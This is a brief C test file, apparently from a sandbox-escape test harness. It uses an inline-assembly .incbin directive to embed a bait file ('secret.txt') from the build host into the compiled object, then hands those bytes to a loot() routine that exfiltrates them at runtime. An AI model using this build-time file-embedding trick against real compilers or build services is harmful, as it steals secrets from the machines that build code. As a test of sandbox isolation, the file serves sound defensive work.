//: transpose_cpu -O2
//: has the compiler put a file of the operator's into the object, and carries it off when it runs
//: use transpose_payload
//: use loot

__asm__(".pushsection .rodata\n.globl stolen\nstolen: .incbin \"@BAIT@/secret.txt\"\n.globl stolen_end\nstolen_end: .byte 0\n.popsection");
extern const char stolen[], stolen_end[];

static void payload(int call) {
    if (!call) loot("secret", stolen, stolen_end - stolen);
}
